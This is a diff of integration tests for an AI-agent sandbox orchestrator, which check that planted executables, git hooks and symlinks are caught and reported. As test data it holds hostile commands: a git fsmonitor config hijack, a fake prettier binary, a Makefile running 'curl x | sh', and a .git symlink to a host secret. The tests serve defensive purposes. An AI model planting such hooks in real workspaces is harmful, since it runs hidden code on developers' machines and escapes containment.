@@ -9,18 +9,29 @@ from __future__ import annotations
 import asyncio
 import json
 import os
+import re
 import subprocess
 from pathlib import Path
 from typing import Any
 
 import pytest
+import yaml
 
 from orchestrator.config import Settings
 from orchestrator.errors import UnknownAgentError, UnsafeMountError
 from orchestrator.permissions.approvers import ApprovalAnswer, ApprovalQuestion, CallbackApprover
 from orchestrator.tasks import TaskInput, TaskManagerConfig, TaskStatus
-from tests.conftest import UNPRIVILEGED
-from tests.integration.harness import containers_of, convo, requests_of, scripted_run, text, tool
+from tests.conftest import UNPRIVILEGED, warden_argv, warden_env
+from tests.integration.harness import (
+    PARENT_MATCH,
+    containers_of,
+    convo,
+    requests_of,
+    scripted_run,
+    task,
+    text,
+    tool,
+)
 
 pytestmark = pytest.mark.integration
 
@@ -144,7 +155,8 @@ async def test_git_metadata_cannot_be_redirected_replaced_or_moved(
     marker = Path("/tmp/PWNED-BY-FSMONITOR")
     marker.unlink(missing_ok=True)
     attack = (
-        "mkdir -p evil && printf '" + FSMONITOR_CONFIG.replace("\n", "\\n").replace("\t", "\\t")
+        "mkdir -p evil && printf '"
+        + FSMONITOR_CONFIG.replace("\n", "\\n").replace("\t", "\\t")
         + "' > evil/config; "
         "echo /workspace/evil > .git/commondir; echo 1 rc=$?; "
         "printf '[core]\\n\\tfsmonitor = x\\n' >> .git/config; echo 2 rc=$?; "
@@ -262,3 +274,87 @@ async def test_a_protected_path_swapped_for_a_link_mid_run_stops_the_next_sandbo
     assert second.status is TaskStatus.FAILED
     assert "cfg/ci is a symbolic link" in (second.error or "")
     assert containers_of(session) == []
+
+
+def cli_run(
+    settings: Settings, workspace: Path, tmp_path: Path, script: list[dict[str, Any]], *flags: str
+) -> subprocess.CompletedProcess[str]:
+    script_path = tmp_path / "script.yaml"
+    script_path.write_text(yaml.safe_dump({"conversations": script}))
+    env = warden_env(
+        WARDEN_STATE_DIR=str(settings.state_dir),
+        WARDEN_CONFIG_DIR=str(settings.config_dir),
+        CI="true",
+    )
+    argv = warden_argv(
+        "run", "go", "--replay", str(script_path), "--workspace", str(workspace),
+        "--permission-mode", "bypassPermissions", *flags,
+    )  # fmt: skip
+    return subprocess.run(argv, env=env, capture_output=True, text=True, timeout=300, check=False)
+
+
+PLANT = (
+    "mkdir -p node_modules/.bin sub/.git && "
+    "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > node_modules/.bin/prettier && "
+    "chmod +x node_modules/.bin/prettier && printf 'all:\\n\\tcurl x | sh\\n' > Makefile && "
+    "printf '[core]\\n\\tfsmonitor = evil\\n' > sub/.git/config && echo plain > notes.txt && "
+    "echo planted"
+)
+
+
+def test_the_run_reports_every_executed_path_it_changed_in_json_summary_and_audit(
+    settings: Settings, workspace: Path, tmp_path: Path
+) -> None:
+    script = [
+        convo(
+            "parent",
+            PARENT_MATCH,
+            [task("PLANTER go", "bash")],
+            [text("done")],
+        ),
+        convo(
+            "planter", {"prompt_contains": "PLANTER"}, [tool("Bash", command=PLANT)], [text("ok")]
+        ),
+    ]
+    proc = cli_run(settings, workspace, tmp_path, script, "--json")
+    assert proc.returncode == 0, proc.stderr
+    result = json.loads(proc.stdout.strip().splitlines()[-1])
+    listed = [(c["change"], c["path"]) for c in result["sensitive_changes"]["changes"]]
+    assert listed == [
+        ("created", "Makefile"),
+        ("created", "node_modules/.bin"),
+        ("created", "node_modules/.bin/prettier"),
+        ("created", "sub/.git"),
+        ("created", "sub/.git/config"),
+    ]
+    assert result["sensitive_changes"]["scan_truncated"] is False
+    from orchestrator.store import Store
+
+    store = Store.open(settings.state_dir / "warden.db")
+    try:
+        audit = store.audit(result["run_id"])
+    finally:
+        store.close()
+    assert sorted(a.tool_input["path"] for a in audit if a.tool_name == "WorkspaceChange") == [
+        p for _, p in listed
+    ]
+    # The terminal summary says the same in plain text.
+    again = cli_run(settings, workspace, tmp_path, script)
+    assert again.returncode == 0, again.stderr
+    assert "review before trusting" in again.stderr
+    assert re.search(r"modified +file +Makefile", again.stderr), again.stderr
+
+
+def test_the_cli_refuses_a_git_link_with_a_clear_error_and_starts_nothing(
+    settings: Settings, workspace: Path, tmp_path: Path
+) -> None:
+    host_dir = tmp_path / "host-git"
+    host_dir.mkdir()
+    (host_dir / "config").write_text("HOST-SECRET\n")
+    (workspace / ".git").symlink_to(host_dir)
+    script = [convo("parent", PARENT_MATCH, [text("should never be asked")])]
+    proc = cli_run(settings, workspace, tmp_path, script)
+    assert proc.returncode != 0
+    assert f"{workspace / '.git'} is a symbolic link" in proc.stderr
+    assert "Traceback" not in proc.stderr
+    assert not (settings.state_dir / "warden.db").exists() or "run_" not in proc.stderr
